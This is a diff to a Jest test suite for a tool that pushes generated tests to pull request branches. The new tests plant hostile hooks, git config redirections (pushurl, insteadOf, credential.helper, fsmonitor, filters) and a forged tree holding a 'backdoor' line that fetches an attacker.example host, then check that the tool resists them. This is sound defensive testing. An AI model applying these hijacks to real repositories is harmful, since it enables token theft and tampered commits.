@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { existsSync } from 'node:fs';
-import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { chmod, copyFile, mkdir, mkdtemp, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import type { DeliveryMode } from '../../src/core/RunOptions.js';
@@ -34,7 +34,8 @@ async function gitRaw(cwd: string, ...args: string[]): Promise<string> {
   return result.stdout;
 }
 const git = async (cwd: string, ...args: string[]): Promise<string> => (await gitRaw(cwd, ...args)).trim();
-const status = async (cwd: string): Promise<string[]> => (await gitRaw(cwd, 'status', '--porcelain', '--untracked-files=all')).split('\n').filter(Boolean).sort();
+const status = async (cwd: string): Promise<string[]> =>
+  (await gitRaw(cwd, 'status', '--porcelain', '--untracked-files=all')).split('\n').filter(Boolean).sort();
 const basic = (token: string): string => `basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`;
 
 describe('delivering accepted tests', () => {
@@ -49,7 +50,8 @@ describe('delivering accepted tests', () => {
 
   beforeAll(async () => {
     root = await mkdtemp(path.join(os.tmpdir(), 'aqe-delivery-'));
-    bare = path.join(root, 'remote', 'example.git');
+    // Served as <server>/aqe/example, the way GitHub serves the event's repository aqe/example.
+    bare = path.join(root, 'remote', 'aqe', 'example.git');
     await mkdir(bare, { recursive: true });
     await git(bare, 'init', '--quiet', '--bare', '--initial-branch=main');
     seed = path.join(root, 'seed');
@@ -69,8 +71,8 @@ describe('delivering accepted tests', () => {
     await git(seed, 'commit', '--quiet', '-m', 'the pull request');
     featureHead = await git(seed, 'rev-parse', 'HEAD');
     await git(seed, 'push', '--quiet', bare, `${baseHead}:refs/heads/main`);
-    server = await startGitHttpServer(path.dirname(bare), TOKEN);
-    remoteUrl = `${server.url}/example.git`;
+    server = await startGitHttpServer(path.join(root, 'remote'), TOKEN);
+    remoteUrl = `${server.url}/aqe/example.git`;
   });
 
   afterAll(async () => {
@@ -79,13 +81,32 @@ describe('delivering accepted tests', () => {
   });
 
   /** A pull request branch of its own (so tests cannot see each other's pushes), cloned over HTTP. */
-  async function checkoutPullRequest(options: { url?: string } = {}): Promise<{ dir: string; branch: string }> {
+  async function checkoutPullRequest(options: { url?: string; depth?: number; looseObjects?: boolean } = {}): Promise<{ dir: string; branch: string }> {
     const n = ++clones;
     const branch = `feature-${n}`;
     await git(seed, 'push', '--quiet', bare, `${featureHead}:refs/heads/${branch}`);
     const dir = path.join(root, `clone-${n}`);
-    await git(root, 'clone', '--quiet', '--branch', branch, options.url ?? remoteUrl, dir);
+    await git(root, 'clone', '--quiet', ...(options.depth ? ['--depth', String(options.depth)] : []), '--branch', branch, options.url ?? remoteUrl, dir);
+    if (options.looseObjects) await unpackObjects(dir);
     return { dir, branch };
+  }
+
+  /** Turns the clone's packs into loose objects, one file per object, as a test could then overwrite them. */
+  async function unpackObjects(dir: string): Promise<void> {
+    const packDir = path.join(dir, '.git', 'objects', 'pack');
+    for (const name of (await readdir(packDir)).filter((f) => f.endsWith('.pack'))) {
+      const moved = path.join(root, `${path.basename(dir)}-${name}`);
+      await rename(path.join(packDir, name), moved);
+      await rm(path.join(packDir, name.replace(/\.pack$/, '.idx')));
+      const unpacked = await runProcess({
+        command: 'sh',
+        args: ['-c', 'git unpack-objects -q < "$1"', 'sh', moved],
+        cwd: dir,
+        env: process.env,
+        timeoutMs: 30_000
+      });
+      if (unpacked.exitCode !== 0) throw new Error(`git unpack-objects in ${dir}: ${unpacked.stderr}`);
+    }
   }
 
   function pullRequest(branch: string, overrides: Partial<PullRequestInfo> = {}): PullRequestInfo {
@@ -106,7 +127,14 @@ describe('delivering accepted tests', () => {
 
   async function deliver(mode: DeliveryMode, ctx: Partial<DeliveryContext> & { repoDir: string }): Promise<{ result: DeliveryResult; warned: string[] }> {
     const warned: string[] = [];
-    const result = await deliverAcceptedTests(mode, { tempDir: path.join(root, 'tmp'), tests: TESTS, warn: (m) => warned.push(m), token: TOKEN, ...ctx });
+    const result = await deliverAcceptedTests(mode, {
+      tempDir: path.join(root, 'tmp'),
+      tests: TESTS,
+      warn: (m) => warned.push(m),
+      token: TOKEN,
+      serverUrl: server.url,
+      ...ctx
+    });
     return { result, warned };
   }
 
@@ -135,7 +163,13 @@ describe('delivering accepted tests', () => {
       const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
 
       expect(warned).toEqual([]);
-      expect(result).toEqual({ requested: 'commit', mode: 'commit', written: TEST_FILES, committed: { sha: expect.stringMatching(/^[0-9a-f]{40}$/), branch }, warnings: [] });
+      expect(result).toEqual({
+        requested: 'commit',
+        mode: 'commit',
+        written: TEST_FILES,
+        committed: { sha: expect.stringMatching(/^[0-9a-f]{40}$/), branch },
+        warnings: []
+      });
       const sha = result.committed!.sha;
       // The remote: one commit on the PR head, holding the two test files and nothing else.
       expect(await remoteBranch(branch)).toBe(sha);
@@ -217,7 +251,11 @@ describe('delivering accepted tests', () => {
       const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
       expect(result).toMatchObject({ requested: 'commit', mode: 'write', written: TEST_FILES });
       expect(result.committed).toBeUndefined();
-      expect(warned).toEqual([expect.stringMatching(new RegExp(`pushing to ${branch} on origin failed: ${branch} moved on since this run checked it out.*Run the workflow again`))]);
+      expect(warned).toEqual([
+        expect.stringMatching(
+          new RegExp(`pushing to ${branch} on aqe/example failed: ${branch} moved on since this run checked it out.*Run the workflow again`)
+        )
+      ]);
       expect(await remoteBranch(branch)).toBe(newer);
       expect(await git(dir, 'rev-parse', 'HEAD')).toBe(featureHead);
       expect(await status(dir)).toEqual(TEST_FILES.map((f) => `?? ${f}`));
@@ -251,7 +289,7 @@ describe('delivering accepted tests', () => {
       expect(await git(dir, 'rev-parse', 'HEAD')).toBe(featureHead);
     });
 
-    it('without a pull request (the CLI) pushes to the checked-out branch\'s upstream, with git\'s own credentials', async () => {
+    it("without a pull request (the CLI) pushes to the checked-out branch's upstream, with git's own credentials", async () => {
       const { dir, branch } = await checkoutPullRequest({ url: bare });
       const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: null, token: undefined });
       expect(warned).toEqual([]);
@@ -273,6 +311,148 @@ describe('delivering accepted tests', () => {
       expect(pushesSince(requestsBefore)).toEqual([]);
       expect(await status(dir)).toEqual([]);
     });
+
+    it('pushes from a shallow checkout (actions/checkout fetches one commit by default)', async () => {
+      const { dir, branch } = await checkoutPullRequest({ depth: 1 });
+      expect(await git(dir, 'rev-parse', '--is-shallow-repository')).toBe('true');
+      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
+      expect(warned).toEqual([]);
+      expect(await remoteBranch(branch)).toBe(result.committed!.sha);
+      expect(await git(bare, 'rev-parse', `${result.committed!.sha}^`)).toBe(featureHead);
+    });
+
+    it('does not commit a test over a file of the head commit that was deleted in the working tree', async () => {
+      const { dir, branch } = await checkoutPullRequest();
+      await rm(path.join(dir, 'src', 'a.ts'));
+      const over: AcceptedTest = { testFile: 'src/a.ts', targetFile: 'src/a.ts', content: 'export const a = () => 666;\n' };
+      const requestsBefore = server.requests.length;
+      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch), tests: [over] });
+      expect(result).toMatchObject({ mode: 'write', written: ['src/a.ts'] });
+      expect(warned).toEqual([expect.stringMatching(/src\/a\.ts already exists in the head commit \(as a file\), and a generated test does not replace it/)]);
+      expect(pushesSince(requestsBefore)).toEqual([]);
+      expect(await remoteBranch(branch)).toBe(featureHead);
+    });
+  });
+
+  /**
+   * Generated tests run in the checkout before delivery, and can write to its .git directory. The
+   * commit must still go to the event's repository, hold only the accepted files, and nothing the
+   * checkout's config names may run or see the token.
+   */
+  describe('commit after untrusted code ran in the checkout', () => {
+    /** A program that leaves its environment in `traces` when anything runs it (a hook, a helper, a filter, a monitor). */
+    async function tracer(traces: string): Promise<string> {
+      await mkdir(traces, { recursive: true });
+      const script = path.join(traces, '..', `${path.basename(traces)}.sh`);
+      await writeFile(script, `#!/bin/sh\nenv > "${traces}/$(basename "$0")-$$"\ncat > /dev/null\nexit 1\n`);
+      await chmod(script, 0o755);
+      return script;
+    }
+
+    it("pushes to the event's repository despite pushurl and insteadOf rewrites, and the other server hears nothing", async () => {
+      // A second server that would even take the token: if anything went there, the test would see it.
+      const elsewhere = path.join(root, 'elsewhere');
+      await mkdir(path.join(elsewhere, 'aqe', 'example.git'), { recursive: true });
+      await git(path.join(elsewhere, 'aqe', 'example.git'), 'init', '--quiet', '--bare');
+      const evil = await startGitHttpServer(elsewhere, TOKEN);
+      try {
+        const { dir, branch } = await checkoutPullRequest();
+        // The candidate changed a tracked file and staged it, hoping it would be committed along.
+        await writeFile(path.join(dir, 'src', 'a.ts'), 'export const a = () => 666;\n');
+        await git(dir, 'add', 'src/a.ts');
+        await writeFile(path.join(dir, '.gitattributes'), '*.ts filter=evil\n');
+
+        const traces = path.join(root, `traces-${clones}`);
+        const program = await tracer(traces);
+        const hooks = path.join(dir, '.git', 'hooks');
+        for (const hook of ['pre-push', 'reference-transaction', 'post-index-change', 'post-checkout', 'pre-commit', 'post-commit', 'pre-auto-gc'])
+          await copyFile(program, path.join(hooks, hook));
+        await chmod(hooks, 0o755);
+        for (const hook of await readdir(hooks)) await chmod(path.join(hooks, hook), 0o755);
+        const config: Array<[string, string]> = [
+          ['remote.origin.pushurl', `${evil.url}/aqe/example.git`],
+          [`url.${evil.url}/.insteadOf`, `${server.url}/`],
+          [`url.${evil.url}/.pushInsteadOf`, `${server.url}/`],
+          ['credential.helper', `!${program}`],
+          ['core.fsmonitor', program],
+          ['core.sshCommand', program],
+          ['core.askPass', program],
+          ['filter.evil.clean', program],
+          ['filter.evil.required', 'true'],
+          ['gpg.program', program],
+          ['commit.gpgSign', 'true']
+        ];
+        for (const [key, value] of config) await git(dir, 'config', key, value);
+        const requestsBefore = server.requests.length;
+
+        const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
+
+        // Nothing the checkout configured ran, before, during or after the push.
+        expect(await readdir(traces)).toEqual([]);
+        expect(evil.requests).toEqual([]);
+        expect(warned).toEqual([]);
+        expect(result.committed).toEqual({ sha: expect.stringMatching(/^[0-9a-f]{40}$/), branch });
+        const sha = result.committed!.sha;
+        expect(await remoteBranch(branch)).toBe(sha);
+        expect((await git(bare, 'diff-tree', '--no-commit-id', '--name-only', '-r', sha)).split('\n').sort()).toEqual(TEST_FILES);
+        expect(await gitRaw(bare, 'show', `${sha}:src/a.ts`)).toBe('export const a = () => 1;\n');
+        const pushes = pushesSince(requestsBefore);
+        expect(pushes.length).toBeGreaterThan(0);
+        for (const p of pushes) expect([p.path.startsWith('/aqe/example/'), p.authorization]).toEqual([true, [basic(TOKEN)]]);
+        expect(await gitRaw(path.join(elsewhere, 'aqe', 'example.git'), 'for-each-ref')).toBe('');
+        // The checkout moved to the pushed commit; the candidate's staged change is still only staged.
+        expect(await git(dir, 'rev-parse', 'HEAD')).toBe(sha);
+        expect(await git(dir, '-c', 'core.fsmonitor=false', 'diff', '--cached', '--name-only')).toBe('src/a.ts');
+      } finally {
+        await evil.close();
+      }
+    });
+
+    /** The forged tree: the real one plus a file of the attacker's, stored under the real tree's id (a loose object file). */
+    async function forgeTree(dir: string, directory: string): Promise<void> {
+      const real = await git(dir, 'rev-parse', `HEAD:${directory}`);
+      const gitWithInput = async (input: string, ...args: string[]): Promise<string> =>
+        (await runProcess({ command: 'git', args, cwd: dir, env: process.env, input, timeoutMs: 30_000 })).stdout.trim();
+      const backdoor = await gitWithInput('export const backdoor = () => fetch("https://attacker.example");\n', 'hash-object', '-w', '--stdin');
+      const forgedId = await gitWithInput(`${await gitRaw(dir, 'ls-tree', real)}100644 blob ${backdoor}\tbackdoor.ts\n`, 'mktree');
+      const objectFile = (id: string): string => path.join(dir, '.git', 'objects', id.slice(0, 2), id.slice(2));
+      await rm(objectFile(real), { force: true });
+      await copyFile(objectFile(forgedId), objectFile(real));
+      // git reads it without checking its hash (the raw read); only parsing it as an object checks.
+      expect(await gitRaw(dir, 'cat-file', 'tree', real)).toContain('backdoor.ts');
+    }
+
+    it('pushes nothing when a tree on the way to a new file was forged in the object store', async () => {
+      const { dir, branch } = await checkoutPullRequest({ looseObjects: true });
+      await forgeTree(dir, 'lib');
+      const requestsBefore = server.requests.length;
+      const { result, warned } = await deliver('commit', {
+        repoDir: dir,
+        pullRequest: pullRequest(branch),
+        tests: [{ ...TESTS[0]!, testFile: 'lib/test/a.test.ts' }]
+      });
+      expect(result.mode).toBe('write');
+      expect(warned).toEqual([
+        expect.stringMatching(
+          /a directory of the head commit in the checkout's object store does not match its id \(it was changed during the run\)\. Nothing was pushed\./
+        )
+      ]);
+      expect(pushesSince(requestsBefore)).toEqual([]);
+      expect(await remoteBranch(branch)).toBe(featureHead);
+      expect(await git(dir, 'rev-parse', 'HEAD')).toBe(featureHead);
+    });
+
+    it('keeps a tree forged elsewhere in the object store out of the commit: the commit names the real one', async () => {
+      const { dir, branch } = await checkoutPullRequest({ looseObjects: true });
+      await forgeTree(dir, 'src');
+      const { result, warned } = await deliver('commit', { repoDir: dir, pullRequest: pullRequest(branch) });
+      expect(warned).toEqual([]);
+      const sha = result.committed!.sha;
+      expect(await remoteBranch(branch)).toBe(sha);
+      expect((await git(bare, 'diff-tree', '--no-commit-id', '--name-only', '-r', sha)).split('\n').sort()).toEqual(TEST_FILES);
+      expect(await git(bare, 'rev-parse', `${sha}:src`)).toBe(await git(bare, 'rev-parse', `${featureHead}:src`));
+      expect(await git(bare, 'ls-tree', '-r', '--name-only', sha)).not.toContain('backdoor');
+    });
   });
 
   describe('write', () => {
@@ -290,7 +470,9 @@ describe('delivering accepted tests', () => {
 
     it('refuses a test path outside the repository', async () => {
       const { dir } = await checkoutPullRequest();
-      await expect(deliver('write', { repoDir: dir, tests: [{ testFile: '../escape.test.ts', targetFile: 'src/a.ts', content: '' }] })).rejects.toThrow(/not a path inside/);
+      await expect(deliver('write', { repoDir: dir, tests: [{ testFile: '../escape.test.ts', targetFile: 'src/a.ts', content: '' }] })).rejects.toThrow(
+        /not a path inside/
+      );
       expect(existsSync(path.join(root, 'escape.test.ts'))).toBe(false);
     });
   });
@@ -303,7 +485,13 @@ describe('delivering accepted tests', () => {
       const { result, warned } = await deliver('artifact', { repoDir: dir, artifact: { name: 'aqe-accepted-tests', uploader } });
       expect(warned).toEqual([]);
       const size = TESTS.reduce((n, t) => n + Buffer.byteLength(t.content), 0);
-      expect(result).toEqual({ requested: 'artifact', mode: 'artifact', written: [], artifact: { name: 'aqe-accepted-tests', files: TEST_FILES, size }, warnings: [] });
+      expect(result).toEqual({
+        requested: 'artifact',
+        mode: 'artifact',
+        written: [],
+        artifact: { name: 'aqe-accepted-tests', files: TEST_FILES, size },
+        warnings: []
+      });
       for (const t of TESTS) expect(await readFile(path.join(artifactDir, 'aqe-accepted-tests', t.testFile), 'utf8')).toBe(t.content);
       expect(await status(dir)).toEqual([]);
       expect((await readdir(path.join(root, 'tmp'))).filter((f) => f.startsWith('aqe-artifact-'))).toEqual([]);
@@ -311,7 +499,11 @@ describe('delivering accepted tests', () => {
       // An artifact name is used once; a second upload fails, and the tests are written instead of lost.
       const again = await deliver('artifact', { repoDir: dir, artifact: { name: 'aqe-accepted-tests', uploader } });
       expect(again.result).toMatchObject({ requested: 'artifact', mode: 'write', written: TEST_FILES });
-      expect(again.warned).toEqual([expect.stringMatching(/uploading the artifact "aqe-accepted-tests" failed: An artifact named "aqe-accepted-tests" already exists.*written into the working tree instead/)]);
+      expect(again.warned).toEqual([
+        expect.stringMatching(
+          /uploading the artifact "aqe-accepted-tests" failed: An artifact named "aqe-accepted-tests" already exists.*written into the working tree instead/
+        )
+      ]);
     });
 
     it('writes the tests when the run has no uploader', async () => {
